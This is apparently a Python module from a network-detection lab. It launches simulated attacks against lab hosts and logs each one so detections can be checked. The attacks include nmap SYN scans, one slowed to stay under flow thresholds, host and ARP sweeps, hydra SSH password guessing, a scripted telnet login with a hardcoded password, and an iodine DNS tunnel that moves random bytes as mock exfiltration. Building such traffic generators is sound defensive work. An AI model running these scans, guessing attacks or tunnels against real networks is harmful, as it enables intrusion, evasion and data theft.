"""Suspicious scenarios a trainer (or a test) switches on; each runs a real tool once from one host.

Each records in its ledger what the tool was asked to do (the target and how many ports, hosts or
sessions), which the report checks against the stored flows; docs/lab.md says what each puts on
the wire.
"""

import os
import socket
import subprocess
import time

from .. import tools, topo
from .catalog import SCENARIOS  # noqa: F401  (re-exported for callers)

SCAN_PORTS = 300            # nmap -p 1-300: the server's low ports in one fast SYN scan
SLOW_PORTS, SLOW_DELAY = 150, "100ms"  # 150 probes 0.1 s apart: 15 s, three 5 s flow files
TUNNEL_DOMAIN, TUNNEL_NET, TUNNEL_PASSWORD = "t.exfil-lab.example", "192.168.99.1", "lab-tunnel"
TUNNEL_SINK_PORT, TUNNEL_BYTES = 5555, 48_000
GUESS_USER, GUESSES = "admin", 30  # hydra's default run against one user and a 30-word list


def _run(ctx, argv, timeout, name):
    """Run a tool to its end (or until asked to stop); log its output; return its exit code."""
    log = open(os.path.join(ctx.run_dir, f"tool-{ctx.host}-{name}.log"), "ab")
    proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT,
                            cwd=ctx.run_dir)
    deadline = time.monotonic() + timeout
    while proc.poll() is None and time.monotonic() < deadline and ctx.running():
        ctx.pause(0.2)
    if proc.poll() is None:
        proc.terminate()
        try:
            proc.wait(timeout=5)
        except subprocess.TimeoutExpired:
            proc.kill()
    return proc.wait()


def telnet_login(ctx):
    """Log in to the server's inetutils-telnetd with the real telnet client, typing like a person."""
    ctx.ready.set()
    start = time.time()
    proc = subprocess.Popen(["telnet", ctx.peers["srv"][0], "23"], stdin=subprocess.PIPE,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for line in ("admin", "Sw1tch!2024", "show running-config", "exit"):
            if not ctx.pause(ctx.rng.uniform(0.4, 1.0)):
                break
            # scripted from a pipe, telnet passes "\n" on as the line end (pitfalls.md)
            proc.stdin.write(line.encode() + b"\n")
            proc.stdin.flush()
        proc.stdin.close()
        ok = proc.wait(timeout=15) == 0
    except (BrokenPipeError, subprocess.TimeoutExpired):
        proc.kill()
        proc.wait()
        ok = False
    ctx.ledger.session("telnet", ctx.ip, ctx.peers["srv"][0], 23, ok=ok, start=start)


def port_scan(ctx):
    """SYN-scan the server's ports 1-300 with nmap, fast (-T4), as a scanner's first look."""
    ctx.ready.set()
    srv = ctx.peers["srv"][0]
    rc = _run(ctx, ["nmap", "-sS", "-n", "-Pn", "-T4", "--max-retries", "1",
                    "-p", f"1-{SCAN_PORTS}", "-e", ctx.iface, srv], 120, "port-scan")
    ctx.ledger.spread("port-scan", 6, ctx.ip, srv, "ports", SCAN_PORTS, ok=rc == 0)


def slow_scan(ctx):
    """SYN-scan the branch server slowly (--scan-delay): no flow file holds the threshold."""
    ctx.ready.set()
    target = ctx.peers["br1"][0]
    rc = _run(ctx, ["nmap", "-sS", "-n", "-Pn", "--max-retries", "0", "--scan-delay", SLOW_DELAY,
                    "-p", f"1-{SLOW_PORTS}", "-e", ctx.iface, target], 300, "slow-scan")
    ctx.ledger.spread("slow-scan", 6, ctx.ip, target, "ports", SLOW_PORTS, ok=rc == 0)


def host_sweep(ctx):
    """Ping-sweep the branch subnet through the router (nmap -sn -PE: ICMP echo only)."""
    ctx.ready.set()
    rc = _run(ctx, ["nmap", "-sn", "-PE", "-n", "-e", ctx.iface, topo.BRANCH_SUBNET], 120,
              "host-sweep")
    # 256 addresses of the /24, all routed via rtr across the mirrored switch
    ctx.ledger.spread("host-sweep", 1, ctx.ip, topo.BRANCH_SUBNET, "hosts", 250, ok=rc == 0)


def arp_sweep(ctx):
    """Ping-sweep the office's own subnet (nmap -sn): on a local subnet nmap asks ARP only."""
    ctx.ready.set()
    rc = _run(ctx, ["nmap", "-sn", "-n", "-e", ctx.iface, topo.SUBNET], 120, "arp-sweep")
    # no IP packet is sent, so no flow may be stored for it: at most `count` hosts reached over IP
    # (the host's own baseline), checked as "arp-only"; the census alerts
    ctx.ledger.spread("arp-sweep", 0, ctx.ip, topo.SUBNET, "hosts", 10, ok=rc == 0)


def ssh_guessing(ctx):
    """Guess the server's admin password with hydra's defaults (16 tasks, -w 32) and 30 words."""
    ctx.ready.set()
    words = os.path.join(ctx.run_dir, "ssh", "words.txt")
    with open(words, "w") as f:
        f.write("".join(f"guess-{ctx.rng.randrange(10 ** 6):06d}\n" for _ in range(GUESSES)))
    srv = ctx.peers["srv"][0]
    rc = _run(ctx, ["hydra", "-I", "-l", GUESS_USER, "-P", words, f"ssh://{srv}"], 180,
              "ssh-guessing")
    # hydra spreads its tries over a few connections (several tries each, up to sshd's
    # MaxAuthTries): at least two connections, each answered
    ctx.ledger.spread("ssh-guessing", 6, ctx.ip, srv, "flows", 2, dport=22, ok=rc in (0, 255))


def tunnel_server(ctx):
    """iodined on the branch server, and a TCP sink behind it for the transfer through the tunnel."""
    iodined = tools.find("iodined", "iodine")
    log = open(os.path.join(ctx.run_dir, f"tool-{ctx.host}-iodined.log"), "ab")
    proc = subprocess.Popen([iodined, "-f", "-c", "-P", TUNNEL_PASSWORD, "-l", ctx.ip, "-p", "53",
                             f"{TUNNEL_NET}/27", TUNNEL_DOMAIN], stdin=subprocess.DEVNULL,
                            stdout=log, stderr=subprocess.STDOUT)
    sink = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sink.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sink.bind(("0.0.0.0", TUNNEL_SINK_PORT))
    sink.listen(4)
    sink.settimeout(0.2)
    ctx.ready.set()
    try:
        while ctx.running() and proc.poll() is None:
            try:
                conn, _peer = sink.accept()
            except socket.timeout:
                continue
            with conn:
                conn.settimeout(60)
                got = 0
                try:
                    while chunk := conn.recv(65536):
                        got += len(chunk)
                    conn.sendall(f"{got}\n".encode())
                except OSError:
                    pass
    finally:
        sink.close()
        proc.terminate()
        proc.wait(timeout=10)


def dns_tunnel(ctx):
    """Bring an iodine tunnel up to the branch server (DNS, no raw mode) and copy data through it."""
    ctx.ready.set()
    start = time.time()
    server = ctx.peers["br1"][0]
    log = open(os.path.join(ctx.run_dir, f"tool-{ctx.host}-iodine.log"), "ab")
    # -r: skip iodine's raw UDP mode, so everything goes as DNS queries to port 53
    proc = subprocess.Popen([tools.find("iodine", "iodine"), "-f", "-r", "-P", TUNNEL_PASSWORD,
                             server, TUNNEL_DOMAIN], stdin=subprocess.DEVNULL, stdout=log,
                            stderr=subprocess.STDOUT)
    ok = False
    try:
        ok = _through_tunnel(ctx, proc)
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
    ctx.ledger.session("dns-tunnel", ctx.ip, server, 53, ok=ok, start=start, proto=17)


def _through_tunnel(ctx, proc):
    """Send TUNNEL_BYTES to the sink at the tunnel's far end; return whether all arrived."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and proc.poll() is None and ctx.running():
        try:
            with socket.create_connection((TUNNEL_NET, TUNNEL_SINK_PORT), timeout=5) as conn:
                conn.settimeout(90)
                conn.sendall(ctx.rng.randbytes(TUNNEL_BYTES))
                conn.shutdown(socket.SHUT_WR)
                return conn.recv(64).strip() == str(TUNNEL_BYTES).encode()
        except OSError:
            ctx.pause(1.0)  # the tunnel is not up yet: iodine is still probing
    return False
